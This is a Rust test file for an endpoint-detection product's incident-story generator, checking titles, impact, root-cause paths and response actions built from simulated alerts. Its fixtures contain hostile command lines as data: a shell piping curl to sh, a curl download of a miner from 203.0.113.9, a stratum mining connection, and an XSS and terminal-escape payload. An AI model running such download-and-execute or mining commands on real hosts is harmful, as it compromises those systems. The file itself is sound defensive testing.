//! What an incident says.

use crate::world::*;
use incident::wording::{Language, templates};
use incident::*;
use std::collections::BTreeSet;

pub fn incident(alerts: &[Told]) -> Incident {
    let mut correlator = Correlator::new(Limits::default(), 1);
    let id = alerts.iter().map(|told| correlator.observe(&told.0).incident).last().unwrap();
    correlator.incident(&id).unwrap()
}

/// nginx starts a shell, which fetches a miner and runs it.
pub fn web_shell() -> Vec<Told> {
    let nginx = [p(812, "/usr/sbin/nginx", "nginx: worker"), p(811, "/usr/sbin/nginx", "nginx: master"), init()];
    let shell = below(p(900, "/usr/bin/dash", "sh -c 'curl x | sh'"), &nginx);
    let curl = below(p(901, "/usr/bin/curl", "curl -o /tmp/m http://203.0.113.9/m"), &shell);
    let miner = below(p(902, "/tmp/m", "/tmp/m -o stratum+tcp://203.0.113.9:3333"), &shell);
    vec![
        told("a", 0, "T1505.003", "process-exec", shell),
        told("b", 2, "T1105", "file-write-close", curl).file("/tmp/m"),
        told("c", 4, "T1496", "network-connect", miner).remote("203.0.113.9", 3333),
    ]
}

#[test]
fn a_web_shell_reads_as_its_story() {
    let story = incident(&web_shell());
    assert_eq!(
        story.title.text.en,
        "Web server nginx started a shell from a server, then fetched a program, then mined coins, on srv-1"
    );
    assert_eq!(
        story.title.text.ja,
        "srv-1：Web サーバー nginx によるサーバーからのシェル起動、プログラムのダウンロード、コインの採掘"
    );
    assert_eq!(
        story.how.sentence.text.en,
        "nginx started the shell dash: a service does not start shells in its usual role"
    );
    assert_eq!(story.how.entry.as_deref(), Some("boot-384-1"));
    assert_eq!(story.who.sentence.text.en, "Account root, without a login of a person");
    assert_eq!(story.when.duration_ms, 4000);
    assert_eq!(story.techniques, ["T1505.003", "T1105", "T1496"]);
    assert_eq!(story.place.addresses, ["203.0.113.9:3333"]);
}

#[test]
fn what_it_came_to_is_said_from_alerts_alone() {
    let said = |story: &Incident| story.impact.iter().map(|one| one.text.en.clone()).collect::<Vec<_>>();
    let mut story = incident(&web_shell());
    assert_eq!(
        said(&story),
        [
            "srv-1 computed for somebody else: 203.0.113.9:3333",
            "Commands were run on srv-1 through a server: sh -c 'curl x | sh'"
        ]
    );
    assert_eq!(story.impact[0].evidence, ["c"]);
    // The node knows which processes ended: the miner has not.
    let ids = |ids: &[&str]| ids.iter().map(|id| (*id).to_owned()).collect::<BTreeSet<String>>();
    let all = ids(&["boot-384-1", "boot-385-1", "boot-386-1"]);
    story.note_ended(&all, &ids(&["boot-384-1", "boot-385-1"]));
    let last = story.impact.last().unwrap();
    assert_eq!(
        (last.text.en.as_str(), last.evidence.as_slice()),
        ("Not seen to end, so it may still run: m", &["c".to_owned()][..])
    );
    let shell = story.graph.nodes.iter().find(|node| node.id == "boot-384-1").unwrap();
    assert_eq!(shell.ended, Some(true));
    let mut over = incident(&web_shell());
    over.note_ended(&all, &all);
    assert_eq!(over.impact.last().unwrap().key, "impact.over");
    // Of some nobody was asked: then nothing is over.
    let mut partly = incident(&web_shell());
    partly.note_ended(&ids(&["boot-384-1"]), &ids(&["boot-384-1"]));
    assert_eq!(partly.impact.last().unwrap().key, "impact.server_shell");
}

#[test]
fn where_nothing_was_harmed_that_is_said_and_a_plant_is_told_to_come_back() {
    let shell = below(p(900, "/usr/bin/bash", "bash"), &login(4));
    let looked = incident(&[told("a", 0, "T1082", "process-exec", shell.clone())]);
    assert_eq!(looked.impact[0].key, "impact.none");
    let planted = incident(&[told("a", 0, "T1053.003", "file-write-close", shell).file("/etc/cron.d/x")]);
    assert_eq!(planted.impact[0].text.en, "It comes back by itself through what was planted on srv-1: /etc/cron.d/x");
    assert_eq!(planted.impact[0].evidence, ["a"]);
}

#[test]
fn who_is_the_account_and_where_its_log_in_came_from() {
    let who = |with_session: bool| {
        let mut id = p(2000, "/usr/bin/curl", "curl -o /tmp/x http://203.0.113.9/x");
        id.login_source = Some("198.51.100.7".into());
        if with_session {
            (id.session_id, id.login_name) = (Some(4), Some("alice".into()));
        }
        incident(&[told("a", 0, "T1105", "file-write-close", below(id, &login(4)))]).who
    };
    assert_eq!(who(true).sentence.text.en, "root, who logged in as alice from 198.51.100.7 (session 4)");
    assert_eq!(who(true).source.as_deref(), Some("198.51.100.7"));
    assert_eq!(who(false).sentence.text.en, "Account root, from address 198.51.100.7");
}

#[test]
fn a_program_in_memory_that_was_there_long_before_is_not_where_the_attack_entered() {
    let entry_at = |started_before: i64| {
        let mut helper = p(300, "/memfd:helper", "helper --serve");
        helper.fileless = true;
        helper.started = helper.started.plus_nanos(-started_before * 1_000_000_000);
        let shell = below(p(900, "/usr/bin/bash", "bash"), &[helper, init()]);
        incident(&[told("a", 0, "T1059.004", "process-exec", shell)]).how.entry
    };
    assert_eq!(entry_at(3600).as_deref(), Some("boot-384-1"));
    assert_eq!(entry_at(10).as_deref(), Some("boot-12c-1"));
}

#[test]
fn the_root_cause_path_goes_from_the_server_to_the_miner() {
    let story = incident(&web_shell());
    let path: Vec<_> = story.root_cause.iter().map(|step| (step.name.as_str(), step.ordinary)).collect();
    assert_eq!(path, [("nginx", true), ("dash", false), ("m", false)]);
    assert_eq!(story.root_cause[0].reason.text.en, "nginx is a worker of the same service");
}

#[test]
fn the_graph_joins_what_was_written_to_what_ran() {
    let story = incident(&web_shell());
    let has = |from: &str, to: &str, kind| {
        assert!(
            story.graph.edges.iter().any(|e| e.from == from && e.to == to && e.kind == kind),
            "{from} {to} {kind:?}"
        );
    };
    has("boot-384-1", "boot-385-1", EdgeKind::Started);
    has("boot-385-1", "file:host-1:/tmp/m", EdgeKind::Wrote);
    has("file:host-1:/tmp/m", "boot-386-1", EdgeKind::WroteThenRan);
    has("boot-386-1", "address:203.0.113.9:3333", EdgeKind::Connected);
    let entry: Vec<_> = story.graph.nodes.iter().filter(|node| node.entry).map(|node| node.label.as_str()).collect();
    assert_eq!(entry, ["dash"]);
    assert!(story.graph.nodes.iter().any(|node| node.label == "nginx" && node.ordinary));
}

#[test]
fn the_path_crosses_a_written_file_to_where_the_attack_came_from() {
    let cron = [p(300, "/usr/sbin/cron", "cron -f"), init()];
    let curl = below(p(2000, "/usr/bin/curl", "curl"), &login(1));
    let mined = below(p(3000, "/opt/.x/run", "/opt/.x/run"), &cron);
    let story = incident(&[
        told("a", 0, "T1105", "file-write-close", curl).file("/opt/.x/run"),
        told("b", 7200, "T1496", "process-exec", mined),
    ]);
    let path: Vec<_> = story.root_cause.iter().map(|step| (step.name.as_str(), step.relation)).collect();
    assert_eq!(path, [("bash", None), ("curl", Some(EdgeKind::Started)), ("run", Some(EdgeKind::WroteThenRan))]);
}

/// An old odd process of which nothing was told is where it entered, but what is named and ended is what the alerts share.
#[test]
fn the_headline_names_what_all_alerts_hang_under() {
    let mut implant = p(70, "/memfd:sealed", "sealed");
    implant.fileless = true;
    let script = below(p(80, "/usr/bin/bash", "bash run.sh"), &below(implant, &[init()]));
    let tool = below(p(90, "/usr/bin/tool", "tool all"), &script);
    let story = incident(&[
        told("a", 0, "T1496", "process-exec", below(p(91, "/usr/bin/one", "one"), &tool)),
        told("b", 1, "T1486", "file-rename", below(p(92, "/usr/bin/two", "two"), &tool)),
    ]);
    assert_eq!(story.title.text.en, "tool mined coins, then encrypted files, on srv-1");
    assert_eq!(story.how.entry.as_deref(), Some("boot-46-1"));
    let kill = SuggestedAction::KillTree { host_id: "host-1".into(), entity_id: "boot-5a-1".into() };
    assert_eq!(story.next_steps[0].action, Some(kill));
}

#[test]
fn every_sentence_names_its_evidence() {
    let story = incident(&web_shell());
    let known: BTreeSet<&str> = ["a", "b", "c"].into();
    for sentence in &story.sentences {
        assert!(!sentence.evidence.is_empty(), "{sentence:?}");
        assert!(sentence.evidence.iter().all(|id| known.contains(id.as_str())));
    }
    assert_eq!(story.sentences.last().unwrap().key, "story.observed");
}

#[test]
fn next_steps_carry_their_buttons() {
    let story = incident(&web_shell());
    let actions: Vec<_> = story.next_steps.iter().filter_map(|step| step.action.clone()).collect();
    assert!(actions.contains(&SuggestedAction::KillTree { host_id: "host-1".into(), entity_id: "boot-384-1".into() }));
    assert!(actions.contains(&SuggestedAction::Quarantine { host_id: "host-1".into(), path: "/tmp/m".into() }));
    assert!(
        actions.iter().any(|action| matches!(action, SuggestedAction::Hunt { sql } if sql.contains("203.0.113.9")))
    );
}

#[test]
fn what_was_stopped_is_said() {
    let mut alerts = web_shell();
    alerts[2] = told("c", 4, "T1496", "network-connect", alerts[2].0.lineage.clone()).killed();
    let story = incident(&alerts);
    assert_eq!(story.what.sentence.text.en, "3 alerts, the gravest high. Tamon ended 1 process tree.");
    assert!(!story.next_steps.iter().any(|step| step.sentence.key == "next.enforce"));
}

#[test]
fn repeats_are_one_entry_with_a_count() {
    let alerts: Vec<_> = (0..600)
        .map(|n| {
            told(&format!("r{n}"), n, "T1486", "file-rename", below(p(7, "/usr/bin/python3", "python3 x"), &login(1)))
                .file(&format!("/home/{n}"))
        })
        .collect();
    let story = incident(&alerts);
    assert_eq!((story.alert_count, story.timeline.len()), (600, 1));
    assert_eq!(story.graph.nodes.iter().find(|node| node.label == "python3").unwrap().counters.alerts, 600);
}

#[test]
fn hostile_text_comes_out_escaped_and_clipped() {
    let nasty = format!("sh -c '\u{1b}[2J<script>alert(1)</script>\u{202e}{}'", "A".repeat(10_000));
    let story = incident(&[told("a", 0, "T1059", "process-exec", below(p(9, "/usr/bin/dash", &nasty), &login(1)))]);
    for sentence in story.sentences.iter().chain(story.timeline.iter().map(|entry| &entry.sentence)) {
        for text in [&sentence.text.en, &sentence.text.ja] {
            assert!(!text.contains('\u{1b}') && !text.contains('\u{202e}') && text.len() < 2_000, "{text}");
        }
    }
    assert!(
        story.sentences[0].text.en.contains("<script>alert(1)</script>"),
        "data stays data: {}",
        story.sentences[0].text.en
    );
}

#[test]
fn a_lineage_of_ten_thousand_is_cut() {
    let lineage: Vec<_> = (2..10_000).map(|pid| p(pid, "/usr/bin/dash", "sh -c x")).collect();
    let story = incident(&[told("a", 0, "T1059", "process-exec", lineage)]);
    assert!(story.root_cause.len() <= 40 && story.graph.nodes.len() <= 400);
}

#[test]
fn an_incident_survives_json() {
    let story = incident(&web_shell());
    assert_eq!(serde_json::from_str::<Incident>(&serde_json::to_string(&story).unwrap()).unwrap(), story);
}

/// The holes of a template, without their filters.
fn holes(template: &str) -> BTreeSet<&str> {
    template
        .split('{')
        .skip(1)
        .filter_map(|part| part.split('}').next())
        .map(|hole| hole.split('|').next().unwrap())
        .collect()
}

#[test]
fn both_languages_use_known_arguments_and_all_keys_are_unique() {
    let mut keys = BTreeSet::new();
    for (key, en, ja) in templates() {
        assert!(keys.insert(key.clone()), "{key} twice");
        assert!(!ja.is_ascii(), "{key} is not Japanese");
        let (en, ja) = (holes(en), holes(ja));
        assert!(ja.is_subset(&en), "{key}: {ja:?} has arguments that {en:?} lacks");
    }
    assert_eq!(render("no.such.key", &Default::default(), Language::English), "no.such.key");
}

/// No sentence of any story may lack an argument: a hole without one shows as `?`.
#[test]
fn no_hole_stays_open() {
    for alerts in [web_shell(), crate::outside::guessed_then_mined(), crate::outside::only_tried()] {
        closed(&incident(&alerts));
    }
}

fn closed(story: &Incident) {
    let all = story
        .sentences
        .iter()
        .chain(story.timeline.iter().map(|e| &e.sentence))
        .chain(&story.impact)
        .chain(story.next_steps.iter().map(|s| &s.sentence));
    let strip = [
        &story.title,
        &story.who.sentence,
        &story.what.sentence,
        &story.when.sentence,
        &story.place.sentence,
        &story.how.sentence,
    ];
    for sentence in all.chain(strip).chain(story.root_cause.iter().map(|step| &step.reason)) {
        assert!(!sentence.text.en.contains('?') && !sentence.text.ja.contains('?'), "{sentence:?}");
        assert!(!sentence.text.en.is_empty());
    }
}

/// A story says no more than its events show.
#[test]
fn an_act_is_no_graver_than_what_was_seen() {
    let first = |technique: &str, action: &str, name: &str| {
        let story = incident(&[told("a", 0, technique, action, below(p(9, name, name), &login(1)))]);
        let keys: Vec<String> = story.sentences.iter().map(|sentence| sentence.key.clone()).collect();
        keys.into_iter().find(|key| key.starts_with("story.") && key != "story.began").unwrap()
    };
    let check = |technique, action, name, expected| assert_eq!(first(technique, action, name), expected, "{technique}");
    // Services that are stopped are no destroyed data, nor are backups that are taken away.
    check("T1489", "process-exec", "/usr/bin/systemctl", "story.halt");
    check("T1490", "process-exec", "/usr/bin/rm", "story.recovery");
    check("T1485", "process-exec", "/usr/bin/shred", "story.destroy");
    // A search is no theft; a look into the file is.
    check("T1552.001", "process-exec", "/usr/bin/find", "story.seek");
    check("T1552.001", "file-open-read", "/usr/bin/cat", "story.credentials");
    check("T1003.008", "process-exec", "/usr/bin/cp", "story.credentials");
    // A library for every program is no code in the kernel.
    check("T1014", "process-exec", "/usr/bin/cp", "story.hide");
    check("T1547.006", "process-exec", "/usr/sbin/insmod", "story.kernel");
    // A container that is started is not yet left.
    check("T1610", "process-exec", "/usr/bin/docker", "story.container");
    // What runs below a server need not be a shell, and a script that is written runs nothing yet.
    check("T1505.003", "process-exec", "/usr/bin/id", "story.server_command");
    check("T1505.003", "file-write-close", "/usr/sbin/php-fpm", "story.web_shell");
    check("T1098.004", "file-write-close", "/usr/bin/tee", "story.back_door");
}

#[test]
fn how_often_it_was_seen_counts_what_the_host_held_back() {
    let shell = below(p(900, "/usr/bin/bash", "bash"), &login(4));
    let story = incident(&[
        told("a", 0, "T1059", "process-exec", shell.clone()),
        told("b", 61, "T1059", "process-exec", shell).held_back(9_999),
    ]);
    assert_eq!(story.alert_count, 2);
    let more = story.sentences.iter().find(|sentence| sentence.key == "story.more").unwrap();
    assert_eq!((more.text.en.as_str(), more.evidence.len()), ("That was seen 10001 times in all.", 1));
}

/// Why nothing was stopped is what the decisions say, and enforcing is only proposed where it would have stopped something.
#[test]
fn why_nothing_was_stopped_is_said_from_the_decisions() {
    let ending = |wanted: event::Action, mode: event::Mode| {
        let mut alerts = web_shell();
        for told in &mut alerts {
            (told.0.decision.wanted, told.0.decision.mode) = (wanted, mode);
        }
        let story = incident(&alerts);
        let proposed = story.next_steps.iter().any(|step| step.sentence.key == "next.enforce");
        (story.sentences.last().unwrap().key.clone(), proposed)
    };
    assert_eq!(ending(event::Action::Alert, event::Mode::Enforce), ("story.not_asked".into(), false));
    assert_eq!(ending(event::Action::Kill, event::Mode::Observe), ("story.observed".into(), true));
    assert_eq!(ending(event::Action::Kill, event::Mode::Enforce), ("story.not_stopped".into(), false));
}
